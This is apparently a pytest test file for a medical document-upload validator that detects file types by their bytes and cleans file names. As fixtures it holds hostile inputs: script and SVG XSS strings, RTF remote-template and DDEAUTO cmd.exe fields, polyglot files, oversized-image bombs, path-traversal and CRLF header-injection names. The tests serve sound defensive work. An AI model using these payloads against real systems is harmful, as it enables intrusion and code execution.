"""What a file is, by its bytes: each kind once, then everything that lies, breaks off, acts or would burst."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from espace.kernel.words import Refused
from espace.wire import nomenclature
from espace.wire.files import OWN_TYPES, SUFFIXES, checked, kind_of, plain, suffix_of, title_of
from wire.files_made import PDF, RTF, TEXT, ZIP, jpeg, png, png_chunk, tiff

MOST = 5 * 1024 * 1024

WHOLE = {
    "bilan.pdf": (PDF, "application/pdf"),
    "photo.jpg": (jpeg(), "image/jpeg"),
    "PHOTO.JPEG": (jpeg(frame=0xC2), "image/jpeg"),
    "motion.jpg": (jpeg() + b"\0\0\0\x18ftypmp42" + b"\0" * 200, "image/jpeg"),
    "scan.png": (png(), "image/png"),
    "padded.png": (png() + b"\0\0\r\n", "image/png"),
    "fax.tif": (tiff((16, 4), (8, 8)), "image/tiff"),
    "fax.tiff": (tiff(order=">"), "image/tiff"),
    "lettre.rtf": (RTF, "application/rtf"),
    "note.txt": (TEXT, "text/plain"),
    "windows.txt": (b"\xef\xbb\xbf" + TEXT, "text/plain"),
    "coeur.txt": (b"<3 et 5 < 6, a<b", "text/plain"),
    "": (PDF, "application/pdf"),
    "Ordonnance du 12.03.2024": (PDF, "application/pdf"),
    "C:\\tmp\\..\\bilan.pdf": (PDF, "application/pdf"),
}


@pytest.mark.parametrize("name", WHOLE)
def test_whole_files_are_what_their_bytes_say(name: str) -> None:
    data, kind = WHOLE[name]
    assert checked(name, data, most=MOST) == kind_of(data) == kind


REFUSED = {
    # nothing, or too much
    ("vide.txt", b""): "content_empty",
    ("blanc.txt", b" \r\n\t "): "content_empty",
    ("gros.txt", b"a" * (MOST + 1)): "content_too_large",
    # other kinds, under their own name or another's
    ("a.zip", ZIP): "file_kind_refused",
    ("a.docx", ZIP): "file_kind_refused",
    ("a.pdf", ZIP): "file_kind_refused",
    ("a.pdf", b"MZ\x90\0\3\0\0\0"): "file_kind_refused",
    ("a.txt", b"\x7fELF\2\1\1\0"): "file_kind_refused",
    ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"): "file_kind_refused",
    ("a.gif", b"GIF89a\1\0\1\0\0\0\0;"): "file_kind_refused",
    ("a.heic", b"\0\0\0\x18ftypheic"): "file_kind_refused",
    ("a.webp", b"RIFF\x20\0\0\0WEBPVP8 "): "file_kind_refused",
    ("a.bz2", b"BZh91AY&SY\xff"): "file_kind_refused",
    ("a.pdf.exe", PDF): "file_kind_refused",
    ("a.exe", PDF): "file_kind_refused",
    ("a.pdf.html", TEXT): "file_kind_refused",
    ("bilan\u202efdp.exe", PDF): "file_kind_refused",
    # pages of the web, pictures that run, scripts
    ("a.txt", b"<html><script>alert(1)</script>"): "file_kind_refused",
    ("a.txt", b"  \r\n<!DOCTYPE html>"): "file_kind_refused",
    ("a.txt", b"\xef\xbb\xbf<svg onload='alert(1)'>"): "file_kind_refused",
    ("a.txt", b"<?xml version='1.0'?><ClinicalDocument/>"): "file_kind_refused",
    ("a.txt", b"#!/bin/sh\necho\n"): "file_kind_refused",
    # text that is not
    ("a.txt", b"Glyc\0mie"): "file_kind_refused",
    ("a.txt", "Glycémie".encode("latin-1")): "file_kind_refused",
    ("a.txt", "Glycémie".encode("utf-16")): "file_kind_refused",
    ("a.txt", b"\x1b[2J"): "file_kind_refused",
    # names that announce something else
    ("a.jpg", PDF): "file_lies",
    ("a.pdf", jpeg()): "file_lies",
    ("a.png", jpeg()): "file_lies",
    ("a.pdf", TEXT): "file_lies",
    ("a.txt", RTF): "file_lies",
    # two things at once
    ("a.pdf", PDF + ZIP + b"%%EOF"): "file_lies",
    ("a.jpg", jpeg() + ZIP): "file_lies",
    ("a.png", png() + b"MZ"): "file_lies",
    ("a.txt", b"bonjour " * 10 + PDF): "file_lies",
    ("a.jpg", jpeg(note=PDF)): "file_lies",
    ("a.pdf", b"%PDF-1.4 <html><script>alert(1)</script>" + PDF): "file_lies",
    ("a.rtf", b"{\\rtf1 <script>alert(1)</script>}"): "file_lies",
    ("a.txt", b"bonjour <svg onload=alert(1)>"): "file_lies",
    # broken off
    ("a.pdf", PDF[:-8]): "file_broken",
    ("a.pdf", b"%PDF-"): "file_broken",
    ("a.jpg", b"\xff\xd8\xff"): "file_broken",
    ("a.jpg", jpeg()[:-2]): "file_broken",
    ("a.jpg", jpeg(width=0)): "file_broken",
    ("a.jpg", b"\xff\xd8\xff\xd9"): "file_broken",
    ("a.jpg", jpeg().replace(b"\xff\xc0", b"\xff\xc4")): "file_broken",
    ("a.png", png()[:-12]): "file_broken",
    ("a.png", png().replace(b"IDAT", b"IDAX")): "file_broken",
    ("a.png", png()[:8] + png_chunk(b"IEND", b"")): "file_broken",
    ("a.png", png(height=0)): "file_broken",
    ("a.tif", tiff()[:-20]): "file_broken",
    ("a.tif", tiff(claimed=10_000)): "file_broken",
    ("a.tif", tiff((16, 0))): "file_broken",
    ("a.tif", tiff((16, 4), turns=True)): "file_broken",
    ("a.tif", b"II*\0\2\0\0\0"): "file_broken",
    ("a.tif", b"II*\0\xff\xff\xff\xff"): "file_broken",
    ("a.rtf", RTF[:-1]): "file_broken",
    ("a.rtf", RTF[:-1] + b"\0}"): "file_broken",
    # what acts
    ("a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"): "file_active",
    ("a.rtf", rb"{\rtf1{\*\template http://192.0.2.1/a.dotm}}"): "file_active",
    ("a.rtf", rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd.exe}}}"): "file_active",
    ("a.rtf", rb"{\rtf1{\field{\*\fldinst { INCLUDEPICTURE x}}}}"): "file_active",
    # small files that would be huge
    ("a.png", png(40_000, 40_000, data=b"\0")): "file_outsized",
    ("a.png", png(2**31 - 1, 2**31 - 1, data=b"\0")): "file_outsized",
    ("a.jpg", jpeg(65_535, 65_535)): "file_outsized",
    ("a.tif", tiff((2**32 - 1, 2**32 - 1))): "file_outsized",
    ("a.tif", tiff(*[(8_000, 8_000)] * 13)): "file_outsized",
    ("a.tif", tiff(*[(8, 8)] * 201)): "file_outsized",
}


@pytest.mark.parametrize(("named", "reason"), list(REFUSED.items()), ids=lambda one: str(one)[:60])
def test_every_lie_has_its_reason(named: tuple[str, bytes], reason: str) -> None:
    with pytest.raises(Refused) as caught:
        checked(*named, most=MOST)
    assert caught.value.reason.code == reason


def test_the_largest_are_still_taken() -> None:
    assert checked("a.txt", b"a" * MOST, most=MOST) == "text/plain"
    assert kind_of(png(10_000, 8_000, data=b"\0")) == "image/png"
    assert kind_of(tiff(*[(8, 8)] * 200)) == "image/tiff"


@given(st.binary(max_size=200), st.sampled_from([b"", PDF, RTF, TEXT, jpeg(), png(), tiff()]), st.data())
def test_whatever_the_bytes_a_kind_or_a_refusal_is_answered(noise: bytes, whole: bytes, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(whole)))
    try:
        assert kind_of(whole[:cut] + noise + whole[cut + len(noise) :]) in SUFFIXES.values()
    except Refused as refusal:
        assert refusal.reason.code in {*REFUSED.values()}


NAMES = {
    "bilan.pdf": ("bilan", "pdf"),
    "/etc/passwd": ("passwd", ""),
    "../../bilan.pdf": ("bilan", "pdf"),
    "C:\\Users\\Camille\\Radio pied.JPG": ("Radio pied", "jpg"),
    "a\r\nSet-Cookie: x.txt": ("a Set-Cookie: x", "txt"),
    "nul\0.pdf": ("nul", "pdf"),
    "gauche\u202efdp.exe": ("gauchefdp", "exe"),
    "bilan.2024": ("bilan.2024", ""),
    "Dr. Martin": ("Dr. Martin", ""),
    ".pdf": ("", "pdf"),
    "..": ("", ""),
    "": ("", ""),
    "e\u0301te\u0301.txt": ("été", "txt"),
    "\ud800.pdf": ("", "pdf"),
}


@pytest.mark.parametrize("name", NAMES)
def test_of_a_name_only_a_title_and_a_suffix_are_left(name: str) -> None:
    assert (title_of(name), suffix_of(name)) == NAMES[name]


@given(st.text(max_size=80))
def test_a_title_shows_as_it_is(name: str) -> None:
    title = title_of(name)
    assert "/" not in title and "\\" not in title
    assert plain(title) == title
    assert title.encode().decode() == title


def test_own_types_are_those_of_patients_in_force() -> None:
    assert sorted(OWN_TYPES) == [
        "DOCPAT01", "DOCPAT02", "DOCPAT03", "DOCPAT04", "DOCPAT05", "DOCPAT06", "DOCPAT07", "DOCPAT09",
        "EXPPAT_1", "EXPPAT_2", "EXPPAT_3",
    ]  # fmt: skip
    for code, kind in OWN_TYPES.items():
        known = nomenclature.TYPES[code]
        assert (kind.code, known.dmp, known.valid_until, bool(known.class_code)) == (code, True, None, True)
        assert kind.label_fr and kind.label_en
